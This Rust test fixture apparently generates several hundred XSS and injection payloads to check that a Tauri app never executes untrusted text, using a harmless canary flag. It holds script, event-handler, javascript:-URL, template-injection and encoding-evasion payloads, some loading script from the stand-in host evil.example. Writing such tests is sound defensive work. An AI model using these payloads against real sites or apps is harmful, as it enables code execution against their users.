//! Text that wants to be a program. Each of the base list in each context: what a hostile alert, a pasted page or an
//! imported incident may hold. If one of them runs, `window.__canary` is set and the command `canary` is called.

/// What runs when a payload gets through.
const RUN: &str = "window.__canary=1;__TAURI_INTERNALS__.invoke('canary',{})";

/// Markup that runs by itself, markup that waits for a hand, addresses, templates, and things that break out.
/// `RUN` stands for the program.
const BASE: &[&str] = &[
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "<script src=\"data:text/javascript,RUN\"></script>",
    "<script type=module>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=\"RUN\">",
    "<img src=x onerror=RUN//",
    "<img/src='x'/onerror=RUN>",
    "<IMG SRC=\"attachment://localhost/0\" ONERROR=\"RUN\">",
    "<img srcset=\"x 1x\" onerror=\"RUN\">",
    "<picture><source srcset=x><img onerror=\"RUN\" src=x></picture>",
    "<svg onload=\"RUN\">",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s>",
    "<svg><set onbegin=\"RUN\" attributename=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x\">",
    "<svg><a xlink:href=\"javascript:RUN\"><text y=20>press</text></a></svg>",
    "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:RUN\">press</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"RUN\">",
    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe src=\"file:///etc/passwd\" onload=\"RUN\"></iframe>",
    "<object data=\"javascript:RUN\"></object>",
    "<embed src=\"javascript:RUN\">",
    "<video onerror=\"RUN\"><source src=x></video>",
    "<audio src=x onerror=\"RUN\"></audio>",
    "<body onload=\"RUN\">",
    "<input autofocus onfocus=\"RUN\">",
    "<textarea autofocus onfocus=\"RUN\"></textarea>",
    "<select autofocus onfocus=\"RUN\"></select>",
    "<button popovertarget=x onclick=\"RUN\">press</button><div popover id=x onbeforetoggle=\"RUN\">x</div>",
    "<details open ontoggle=\"RUN\">x</details>",
    "<marquee onstart=\"RUN\">x</marquee>",
    "<a href=\"javascript:RUN\">press</a>",
    "<a href=\"java\tscript:RUN\">press</a>",
    "<a href=\"&#106;avascript:RUN\">press</a>",
    "<form action=\"javascript:RUN\"><button autofocus>press</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:RUN\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<template><script>RUN</script></template>",
    "<div onpointerover=\"RUN\" style=\"position:fixed;inset:0\">x</div>",
    "<x contenteditable onblur=\"RUN\" autofocus tabindex=0>x</x>",
    "javascript:RUN",
    "javascript://example.org/%0aRUN",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19jYW5hcnk9MTwvc2NyaXB0Pg==",
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "#{RUN}",
    "<%= RUN %>",
    "{@html '<img src=x onerror=RUN>'}",
    "';RUN;//",
    "\\\";RUN;//",
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "\u{202e}<script>RUN</script>\u{202c}",
    "\u{0}<img src=x onerror=RUN>",
    "\u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "%3Cscript%3ERUN%3C/script%3E",
    "&lt;img src=x onerror=RUN&gt;",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "__proto__",
    "=HYPERLINK(\"https://evil.example/\",\"press\")",
];

/// Where a payload stands in a text.
const CONTEXTS: &[fn(&str) -> String] = &[
    |payload| payload.to_owned(),
    |payload| format!("\">{payload}"),
    |payload| format!("'>{payload}"),
    |payload| format!("gateway is slow {payload} since noon"),
    |payload| format!("[runbook]({payload})"),
    |payload| format!("![picture]({payload})"),
    |payload| format!("see https://example.org/?q={payload} for more"),
    |payload| format!("`{payload}`"),
];

/// All of them.
pub(crate) fn all() -> Vec<String> {
    let payloads = BASE.iter().map(|base| base.replace("RUN", RUN));
    payloads.flat_map(|payload| CONTEXTS.iter().map(move |context| context(&payload)).collect::<Vec<_>>()).collect()
}

#[test]
fn there_are_enough_and_none_twice() {
    let all = all();
    let different: std::collections::BTreeSet<&String> = all.iter().collect();
    assert!(all.len() >= 500, "{} payloads", all.len());
    assert_eq!(different.len(), all.len());
}
